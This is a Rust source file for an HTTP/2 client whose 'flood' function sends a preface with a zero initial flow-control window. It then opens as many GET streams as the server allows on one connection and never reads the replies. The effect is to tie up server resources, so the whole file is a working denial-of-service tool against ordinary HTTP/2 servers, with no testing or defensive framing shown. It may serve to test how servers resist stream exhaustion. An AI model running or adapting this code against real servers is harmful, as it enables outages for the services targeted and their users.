//! A client of HTTP/2 (RFC 9113) that sends many requests and reads nothing: its window does not allow any body.

use std::{
    io::{Read, Result, Write},
    net::{SocketAddr, TcpStream},
    time::Duration,
};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// `SETTINGS_INITIAL_WINDOW_SIZE` of 0: no byte of a body.
const NO_WINDOW: [u8; 6] = [0, 4, 0, 0, 0, 0];
const SETTINGS: u8 = 4;
const HEADERS: u8 = 1;
/// `END_STREAM` and `END_HEADERS`.
const WHOLE: u8 = 5;
/// `:method GET`, `:scheme https`, `:path /` of the static table, and `:authority` (RFC 7541, 6.2.2).
const GET: &[u8] = b"\x82\x87\x84\x01\x0cshop.example";

/// Opens as many streams as the server allows, at most `most`; returns the number.
pub fn flood(stream: &mut (impl Read + Write), most: u32) -> Result<u32> {
    let mut opening = PREFACE.to_vec();
    opening.extend(frame(SETTINGS, 0, 0, &NO_WINDOW));
    stream.write_all(&opening)?;
    stream.flush()?;
    let count = allowed(stream)?.unwrap_or(most).min(most);
    let mut frames = frame(SETTINGS, 1, 0, &[]);
    (0..count).for_each(|number| frames.extend(frame(HEADERS, WHOLE, 2 * number + 1, GET)));
    stream.write_all(&frames)?;
    stream.flush()?;
    Ok(count)
}

/// A connection without TLS that begins with the HTTP/2 preface.
pub fn plain(front: SocketAddr) -> Result<TcpStream> {
    let stream = TcpStream::connect(front)?;
    stream.set_nodelay(true)?;
    stream.set_read_timeout(Some(Duration::from_secs(5)))?;
    Ok(stream)
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// `SETTINGS_MAX_CONCURRENT_STREAMS` of the server's first frame.
fn allowed(stream: &mut impl Read) -> Result<Option<u32>> {
    let mut head = [0; 9];
    stream.read_exact(&mut head)?;
    assert_eq!(head[3], SETTINGS, "the first frame must be SETTINGS");
    let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
    let mut payload = vec![0; length as usize];
    stream.read_exact(&mut payload)?;
    let number = |entry: &[u8]| u32::from_be_bytes([entry[2], entry[3], entry[4], entry[5]]);
    Ok(payload.chunks(6).find(|entry| entry[..2] == [0, 3]).map(number))
}
